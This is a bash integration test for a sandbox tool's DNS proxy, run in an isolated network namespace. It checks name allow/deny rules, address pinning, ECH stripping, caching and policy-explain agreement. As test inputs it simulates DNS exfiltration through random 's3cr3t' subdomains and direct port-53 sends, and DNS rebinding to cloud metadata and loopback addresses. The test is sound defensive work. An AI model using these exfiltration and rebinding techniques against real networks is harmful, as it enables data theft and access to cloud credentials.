#!/bin/bash
# SPDX-License-Identifier: MIT
# Variables are read inside t_check's eval'd conditions:
# shellcheck disable=SC2034
# dns.sh BUILD_DIR - hostname rules through cordon's DNS proxy, over IPv4 and
# IPv6, in a private network namespace whose only resolver is dnsmasq
# (tests/lib/netns.sh): getent, dig, curl, python requests, node fetch and
# the pure-Go client by name (allowed works, denied never arrives); pinning
# (a name's rule allows only the addresses the proxy gave out); DNS
# rebinding to metadata and loopback; DNS exfiltration through random
# subdomains (the upstream must never see them) and through UDP/TCP port 53
# straight to a non-resolver address; metadata names; `dns allow` names
# resolve but do not connect.
# Registered DISABLED until the DNS proxy lands. Exit 77 (skip) unless root.
. "$(dirname "$0")/netlib.sh"
net_init "$1"

WWW=$T_DIR/www
mkdir -p "$WWW"
echo hello-cordon >"$WWW/hello.txt"
chmod -R a+rX "$WWW"
for a in "$A4" "$A6"; do
	netns_http_server "$a" 8080 "$WWW" || t_fail "http-server-$a"
done
for a in "$D4" "$D6"; do
	netns_canary_tcp "$a" 8080 || t_fail "canary-$a-8080"
	netns_canary_udp "$a" 53 || t_fail "canary-udp53-$a"
	netns_canary_tcp "$a" 53 || t_fail "canary-tcp53-$a"
done
for a in 169.254.169.254 fd00:ec2::254; do
	netns_canary_tcp "$a" 80 || t_fail "canary-meta-$a"
done
netns_canary_tcp 127.0.0.1 5432 || t_fail "canary-lo4"
netns_canary_tcp ::1 5432 || t_fail "canary-lo6"
netns_dnsmasq \
	--host-record=web.test,$A4,$A6 \
	--host-record=other.test,$D4,$D6 \
	--host-record=resolveonly.test,$D4,$D6 \
	--host-record=rebind.test,169.254.169.254,fd00:ec2::254 \
	--host-record=lo.test,127.0.0.1,::1 \
	--host-record=metadata.google.internal,$A4,$A6 \
	--host-record=cached.test,$A4,$A6,60 \
	--host-record=rebind-cached.test,169.254.169.254,fd00:ec2::254,60 \
	--host-record=rebind-teredo.test,2001:0:cb00:7101::5601:5601 \
	--host-record=rebind-teredo-srv.test,2001:0:a9fe:a9fe::34ff:8efa \
	--host-record=rebind-isatap.test,2001:db8::5efe:a9fe:a9fe \
	--host-record=rebind-compat.test,::a9fe:a9fe \
	--host-record=rebind-nat64l.test,64:ff9b:1:a9fe:a9:fe00:cb00:7105 \
	--host-record=keep6.test,2001:db8::a9fe:a9fe \
	--address=/exfil.test/$A4 \
	--cname=www.ech.test,ech.test \
	$(python3 "$NET_HERE/../fuzz/capture_dns_svcb_seeds.py" --dnsmasq-args) ||
	t_fail "dnsmasq"

POL=$T_DIR/dns.cordon
cat >"$POL" <<EOF
zone dnsz extends fork-pr {
	lift host
	dns upstream $NETNS_DNS_V4:53
	allow tcp web.test:8080
	allow tcp rebind.test:80
	allow tcp lo.test:5432
	allow tcp cached.test:8080
	allow tcp rebind-cached.test:80
	dns allow resolveonly.test
	dns allow rebind-teredo.test
	dns allow rebind-teredo-srv.test
	dns allow rebind-isatap.test
	dns allow rebind-compat.test
	dns allow rebind-nat64l.test
	dns allow keep6.test
	dns allow ech.test
	dns allow *.ech.test
	dns allow mand.test
	dns allow noech.test
	dns allow alias.test
	dns allow disorder.test
}
EOF
chmod 644 "$POL"
dz() { jrun -- "$CORDON" run --policy "$POL" --zone dnsz "$@"; }
queries() { netns_dns_queries "$1" | wc -l; }
CURL=(curl -sS --noproxy '*' --connect-timeout 3 -m 5)

# ---- resolving: allowed names answer, others are NXDOMAIN without upstream --
dz -- getent ahosts web.test >"$T_DIR/out" 2>&1
t_check "getent-allowed-v4" 'grep -q "^$A4 " "$T_DIR/out"'
t_check "getent-allowed-v6" 'grep -q "^$A6 " "$T_DIR/out"'
dz -- getent ahosts other.test >"$T_DIR/out" 2>&1
st=$?
t_check "getent-denied-fails" '[ "$st" != 0 ] && ! grep -q "$D4\|$D6" "$T_DIR/out"'
t_check "getent-denied-never-upstream" '[ "$(queries other.test)" = 0 ]'
for t in A AAAA; do
	dz -- dig +short +time=2 +tries=1 web.test "$t" >"$T_DIR/out" 2>&1
	want=$A4
	[ "$t" = AAAA ] && want=$A6
	t_check "dig-allowed-$t" 'grep -qx "$want" "$T_DIR/out"'
	dz -- dig +time=2 +tries=1 other.test "$t" >"$T_DIR/out" 2>&1
	t_check "dig-denied-$t-nxdomain" 'grep -q "status: NXDOMAIN" "$T_DIR/out"'
done
# The resolver reached over IPv6 (dig @[2001:db8::53]).
dz -- dig +short +time=2 +tries=1 @"$NETNS_DNS_V6" web.test AAAA >"$T_DIR/out" 2>&1
t_check "dig-over-v6-resolver" 'grep -qx "$A6" "$T_DIR/out"'
t_check "other.test-never-upstream" '[ "$(queries other.test)" = 0 ]'

# ---- connecting by name, every client, v4 and v6 ------------------------------
for fl in -4 -6; do
	b=$(http_hits "$A${fl#-}" 8080)
	dz -- "${CURL[@]}" "$fl" http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
	t_check "curl$fl-by-name-allowed" 'grep -qx hello-cordon "$T_DIR/out"'
	dz -- "${CURL[@]}" "$fl" http://WEB.Test.:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
	t_check "curl$fl-by-name-case-and-dot" 'grep -qx hello-cordon "$T_DIR/out"'
	dz -- "${CURL[@]}" "$fl" http://other.test:8080/ >"$T_DIR/out" 2>"$T_DIR/err"
	st=$?
	t_check "curl$fl-by-name-denied-fails" '[ "$st" != 0 ]'
	# Pinning: the allowed name forced to another address by the client.
	d=$D4
	[ "$fl" = -6 ] && d="[$D6]"
	dz -- "${CURL[@]}" "$fl" --resolve "web.test:8080:$d" \
		http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
	t_check "curl$fl-unpinned-address-denied" '! grep -q hello-cordon "$T_DIR/out"'
done
for c in wget requests node go; do
	case $c in
	wget) cmd=(wget -q -O - --no-proxy -T 5 -t 1) ;;
	requests) cmd=(/usr/bin/python3 -c 'import sys, requests
s = requests.Session(); s.trust_env = False
r = s.get(sys.argv[1], timeout=5); r.raise_for_status(); sys.stdout.write(r.text)') ;;
	node) cmd=(node -e 'fetch(process.argv[1], {signal: AbortSignal.timeout(5000)})
  .then(r => r.text()).then(t => process.stdout.write(t))
  .catch(e => { console.error(e.cause || e); process.exit(1); })') ;;
	go) cmd=("$GOCLIENT") ;;
	esac
	dz -- "${cmd[@]}" http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
	t_check "$c-by-name-allowed" 'grep -qx hello-cordon "$T_DIR/out"'
	dz -- "${cmd[@]}" http://other.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
	t_check "$c-by-name-denied" '! grep -q hello-cordon "$T_DIR/out"'
done
t_check "denied-by-name-nothing-arrived" '[ "$(hits "$D4" 8080)" = 0 ] && [ "$(hits "$D6" 8080)" = 0 ]'

# ---- dns allow: resolves, never connects ----------------------------------------
dz -- getent ahosts resolveonly.test >"$T_DIR/out" 2>&1
t_check "dns-allow-resolves" 'grep -q "^$D4 " "$T_DIR/out" && grep -q "^$D6 " "$T_DIR/out"'
for fl in -4 -6; do
	dz -- "${CURL[@]}" "$fl" http://resolveonly.test:8080/ >"$T_DIR/out" 2>"$T_DIR/err"
done
t_check "dns-allow-not-connectable" '[ "$(hits "$D4" 8080)" = 0 ] && [ "$(hits "$D6" 8080)" = 0 ]'

# ---- rebinding: an allowed name pointing at metadata or loopback ------------------
for fl in -4 -6; do
	# Either the proxy strips the address from the answer or the connect is
	# denied; the verdict is the canaries' (below).
	dz -- "${CURL[@]}" "$fl" http://rebind.test:80/ >"$T_DIR/out" 2>"$T_DIR/err"
	st=$?
	t_check "rebind$fl-metadata-fails" '[ "$st" != 0 ]'
	dz -- "${CURL[@]}" "$fl" http://lo.test:5432/ >"$T_DIR/out" 2>"$T_DIR/err"
	st=$?
	t_check "rebind$fl-loopback-fails" '[ "$st" != 0 ]'
done
sleep 0.6
for c in "169.254.169.254 80" "fd00:ec2::254 80" "127.0.0.1 5432" "::1 5432"; do
	set -- $c
	t_check "rebind-$1-nothing-arrived" '[ "$(hits "$1" "$2")" = 0 ]'
done

# IPv6 spellings of 169.254.169.254 (Teredo client and server, ISATAP,
# IPv4-compatible, a NAT64 local-use position) are stripped from AAAA
# answers like the address itself; 2001:db8:: is not Teredo and stays.
for n in rebind-teredo rebind-teredo-srv rebind-isatap rebind-compat rebind-nat64l; do
	dz -q -- dig +short +time=2 +tries=1 "$n.test" AAAA >"$T_DIR/out" 2>/dev/null
	t_check "aaaa-$n-stripped" '[ "$(queries "$n.test")" -ge 1 ] && ! grep -q ":" "$T_DIR/out"'
done
dz -q -- dig +short +time=2 +tries=1 keep6.test AAAA >"$T_DIR/out" 2>/dev/null
t_check "aaaa-2001-db8-kept" 'grep -qx "2001:db8::a9fe:a9fe" "$T_DIR/out"'

# ---- metadata names ------------------------------------------------------------------
dz -- getent ahosts metadata.google.internal >"$T_DIR/out" 2>&1
t_check "metadata-name-nxdomain" '! grep -q "$A4" "$T_DIR/out"'
t_check "metadata-name-never-upstream" '[ "$(queries metadata.google.internal)" = 0 ]'

# ---- exfiltration through names -------------------------------------------------------
dz -- sh -c 'i=0; while [ $i -lt 20 ]; do
	getent hosts "s3cr3t$i-$(date +%N).exfil.test" >/dev/null
	dig +short +time=1 +tries=1 "chunk$i.exfil.test" TXT >/dev/null
	i=$((i + 1)); done' >/dev/null 2>&1
t_check "exfil-subdomains-never-upstream" '[ "$(netns_dns_queries | grep -c "exfil\.test")" = 0 ]'
# ... and straight to a non-resolver, UDP and TCP, v4 and v6.
for d in "$D4" "$D6"; do
	dz -- dig +time=1 +tries=1 @"$d" leak.exfil.test >/dev/null 2>&1
	dz -- dig +tcp +time=1 +tries=1 @"$d" leak.exfil.test >/dev/null 2>&1
	dz -- "$NETATTACK" udp-send "$(bracket "$d"):53" "raw-exfil" >/dev/null 2>&1
	sleep 0.6
	t_check "exfil-direct-$d-nothing-arrived" '[ "$(hits "$d" 53)" = 0 ]'
done
t_check "exfil-direct-never-upstream" '[ "$(netns_dns_queries | grep -c "exfil\.test")" = 0 ]'

# ---- HTTPS/SVCB: no ECH config reaches the job ----------------------------------------
# The records (tests/fuzz/capture_dns_svcb_seeds.py) as dnsmasq serves them
# natively: ech= is there, so its absence below is the proxy's doing.
svcb_native() { netns_exec dig +short +time=2 +tries=1 @"$NETNS_DNS_V4" "$@"; }
svcb_job() { dz -q -- dig +short +time=2 +tries=1 "$@"; }
svcb_native ech.test HTTPS >"$T_DIR/native" 2>&1
t_check "svcb-native-has-ech" 'grep -q "ech=" "$T_DIR/native"'
for tr in +notcp +tcp; do
	svcb_job "$tr" ech.test HTTPS >"$T_DIR/out" 2>&1
	t_check "https$tr-ech-removed" '! grep -q "ech=" "$T_DIR/out" &&
		grep -q "^1 \. alpn=\"h3,h2\" ipv4hint=$A4 ipv6hint=$A6$" "$T_DIR/out"'
done
svcb_job _8443._https.ech.test SVCB >"$T_DIR/out" 2>&1
t_check "svcb-ech-removed-rest-kept" '! grep -q "ech=" "$T_DIR/out" &&
	grep -qx "2 svc.ech.test. alpn=\"h2\" port=8443" "$T_DIR/out"'
svcb_job www.ech.test HTTPS >"$T_DIR/out" 2>&1
t_check "https-behind-cname-ech-removed" 'grep -qx "ech.test." "$T_DIR/out" &&
	grep -q "^1 \. alpn" "$T_DIR/out" && ! grep -q "ech=" "$T_DIR/out"'
# A record the server marks ech-mandatory, one with its keys out of order
# (dig itself calls that answer FORMERR): left out of an answer that is
# otherwise NOERROR.
for n in mand disorder; do
	svcb_native "$n.test" HTTPS >"$T_DIR/native" 2>&1
	dz -q -- dig +time=2 +tries=1 "$n.test" HTTPS >"$T_DIR/out" 2>&1
	t_check "https-$n-dropped" 'grep -q "ech=\|FORMERR" "$T_DIR/native" &&
		grep -q "status: NOERROR" "$T_DIR/out" && grep -q "ANSWER: 0," "$T_DIR/out"'
done
# Records without ech pass unchanged.
for n in noech alias; do
	svcb_native "$n.test" HTTPS >"$T_DIR/native" 2>&1
	svcb_job "$n.test" HTTPS >"$T_DIR/out" 2>&1
	t_check "https-$n-unchanged" '[ -s "$T_DIR/out" ] && cmp -s "$T_DIR/native" "$T_DIR/out"'
done
# The wire form, read by a decoder of the test's own: every HTTPS/SVCB
# answer walks to its RDLENGTH, keys increase, none is 5; the message
# lengths hold (no trailing or missing bytes).
cat >"$W/svcb.py" <<'PY'
import random, socket, struct, sys
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def name(m, o):
    while True:
        n = m[o]
        if n == 0:
            return o + 1
        if n & 0xc0 == 0xc0:
            return o + 2
        o += 1 + n
bad = []
for qname, qtype in (("ech.test", 65), ("_8443._https.ech.test", 64), ("www.ech.test", 65)):
    qid = random.randrange(65536)
    q = struct.pack("!HHHHHH", qid, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in qname.split(".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET6 if ":" in ns else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (ns, 53))
    m = s.recv(65535)
    an = struct.unpack("!H", m[6:8])[0]
    o = name(m, 12) + 4
    svcb = 0
    for _ in range(an):
        o = name(m, o)
        t, _, _, rdlen = struct.unpack("!HHIH", m[o:o + 10])
        o += 10
        end = o + rdlen
        if t in (64, 65):
            svcb += 1
            p = name(m, o + 2)
            prev = -1
            while p < end:
                k, l = struct.unpack("!HH", m[p:p + 4])
                if k == 5 or k <= prev:
                    bad.append("%s key %d" % (qname, k))
                prev = k
                p += 4 + l
            if p != end:
                bad.append("%s rdata length" % qname)
        o = end
    if svcb != 1:
        bad.append("%s: %d HTTPS/SVCB answers" % (qname, svcb))
    # Only the header's counts of records may follow (none here: no EDNS).
    if o != len(m) or struct.unpack("!HHH", m[4:10])[1:] != (an, 0):
        bad.append("%s message length" % qname)
print("\n".join(bad) if bad else "clean")
PY
chmod 644 "$W/svcb.py"
dz --audit-level all --audit "$W/svcb.jsonl" -- python3 "$W/svcb.py" >"$T_DIR/out" 2>&1
t_check "svcb-wire-no-key-5" 'grep -qx clean "$T_DIR/out"'
t_check "svcb-ech-removal-audited" 'grep -q "\"outcome\":\"answered; ech removed from HTTPS/SVCB\"" "$W/svcb.jsonl"'
netns_exec python3 "$W/svcb.py" >"$T_DIR/native" 2>&1
t_check "svcb-wire-native-has-key-5" 'grep -q "key 5" "$T_DIR/native"'

# ---- the proxy's answer cache (records with a TTL; the others have 0) ------------------
dz --audit-level all --audit "$W/cache.jsonl" -- sh -c '
	for i in 1 2 3; do getent ahosts cached.test; done
	curl -sS --noproxy "*" --connect-timeout 3 -m 5 http://cached.test:8080/hello.txt
	dig +noall +answer +time=2 +tries=1 cached.test A
	sleep 2.2
	dig +noall +answer +time=2 +tries=1 cached.test A' >"$T_DIR/out" 2>&1
t_check "cache-answers-every-lookup" '[ "$(grep -c "^$A4 " "$T_DIR/out")" -ge 3 ] &&
	[ "$(grep -c "^$A6 " "$T_DIR/out")" -ge 3 ]'
# A and AAAA from getent, and dig's A (it sends EDNS: another question).
t_check "cache-upstream-asked-once-per-question" '[ "$(queries cached.test)" = 3 ]'
t_check "cache-hits-audited" 'grep -q "\"outcome\":\"answered from cache\"" "$W/cache.jsonl"'
t_check "cache-connect-by-name" 'grep -qx hello-cordon "$T_DIR/out"'
ttl1=$(awk '$1 == "cached.test." && $4 == "A" {print $2}' "$T_DIR/out" | sed -n 1p)
ttl2=$(awk '$1 == "cached.test." && $4 == "A" {print $2}' "$T_DIR/out" | sed -n 2p)
t_check "cache-ttl-ages" '[ "$ttl1" = 60 ] && [ "$ttl2" -le 58 ] && [ "$ttl2" -ge 1 ]'
# Rebinding answers are stripped on every hit, not only the first.
dz -- sh -c 'getent ahosts rebind-cached.test; getent ahosts rebind-cached.test
	curl -sS --noproxy "*" --connect-timeout 2 -m 3 http://rebind-cached.test/' >"$T_DIR/out" 2>&1
t_check "cache-rebind-stripped" '! grep -q "169.254.169.254\|fd00:ec2::254" "$T_DIR/out"'
t_check "cache-rebind-upstream-once" '[ "$(queries rebind-cached.test)" = 2 ]'
sleep 0.6
t_check "cache-rebind-nothing-arrived" '[ "$(hits 169.254.169.254 80)" = 0 ] && [ "$(hits fd00:ec2::254 80)" = 0 ]'

# ---- explain and run agree: the plan, DNS redirect included ------------------------
# Public resolvers as local addresses of this namespace, with canaries: if a
# query were sent on instead of redirected, it would arrive here.
for a in 8.8.8.8 2001:4860:4860::8888; do
	netns_add_addr "$a/$([ "$(fam "$a")" = 4 ] && echo 32 || echo 128)" ||
		t_fail "addr-$a"
	netns_canary_udp "$a" 53 || t_fail "canary-udp53-$a"
	netns_canary_tcp "$a" 53 || t_fail "canary-tcp53-$a"
done
plan_of() {
	jrun -- "$CORDON" policy explain --json connect "$1" |
		python3 -c 'import json, sys; print(json.load(sys.stdin)["plan"])'
}
for a in 8.8.8.8 2001:4860:4860::8888; do
	for p in udp tcp; do
		got=$(plan_of "$(bracket "$a"):53/$p")
		t_check "explain-$a-53-$p-redirect" '[ "$got" = redirect-dns ]'
		fl=+notcp
		[ "$p" = tcp ] && fl=+tcp
		# fork-pr: the proxy answers NXDOMAIN for every name itself.
		jrun -- "$CORDON" run -- dig "$fl" +time=2 +tries=1 @"$a" \
			plan-check.test A >"$T_DIR/out" 2>&1
		t_check "run-$a-53-$p-proxy-answers" 'grep -q "status: NXDOMAIN" "$T_DIR/out"'
	done
	sleep 0.6
	t_check "run-$a-53-nothing-arrived" '[ "$(hits "$a" 53)" = 0 ]'
done
t_check "run-53-never-upstream" '[ "$(queries plan-check.test)" = 0 ]'
# Not DNS: explain's deny is run's refusal, and nothing arrives.
for d in "$D4" "$D6"; do
	got=$(plan_of "$(bracket "$d"):8080")
	t_check "explain-$d-8080-deny" '[ "$got" = deny ]'
	jrun -- "$CORDON" run -- "$NETATTACK" connect "$(bracket "$d"):8080" \
		>"$T_DIR/out" 2>&1
	t_check "run-$d-8080-refused" 'grep -qx "connect: errno EACCES" "$T_DIR/out"'
done
sleep 0.6
t_check "run-denied-nothing-arrived" '[ "$(hits "$D4" 8080)" = 0 ] && [ "$(hits "$D6" 8080)" = 0 ]'

t_done
